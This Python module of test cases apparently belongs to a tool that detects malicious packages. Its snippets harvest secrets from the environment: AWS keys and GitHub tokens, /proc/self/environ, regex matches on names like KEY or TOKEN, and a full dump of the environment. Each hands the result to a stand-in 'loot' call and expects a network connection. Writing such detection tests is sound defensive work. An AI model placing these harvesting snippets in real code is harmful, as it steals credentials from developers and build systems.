"""Secrets in the environment."""
from __future__ import annotations

from ..kit import Event, Row, loot

ROWS = [
    Row("SE-01", "setup.py reads three named variables", "metadata", """
        import os
        for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"):
            pwkit.loot(os.environ.get(name))
        """, loot(), (Event("env.read", "env.read", {"name": "AWS_ACCESS_KEY_ID"}), Event("env.read", "env.read", {"name": "AWS_SECRET_ACCESS_KEY"}),
                      Event("env.read", "env.read", {"name": "GITHUB_TOKEN"}), Event("net.*", "net.connect")), legacy=True),
    Row("SE-05", "/proc/self/environ, parsed", "build", """
        import pwkit
        pwkit.loot(open("/proc/self/environ", "rb").read())
        """, loot(), Event("net.*", "net.connect")),
    Row("SE-09", "a static program prints its environment", "metadata", native="environ_static", effect=loot(), event=Event("net.*", "net.connect")),
    Row("SE-15", "variables by a pattern", "import", """
        import os, re, pwkit
        found = {k: v for k, v in os.environ.items() if re.search("KEY|SECRET|TOKEN|PASS", k) or v.startswith(("AKIA", "ghp_"))}
        pwkit.loot(str(found))
        """, loot(), Event("net.*", "net.connect")),
    Row("SE-03", "a console command walks the environment", "script", """
        import os, pwkit
        pwkit.loot(str(dict(os.environ)))
        """, loot(), Event("net.*", "net.connect")),
]
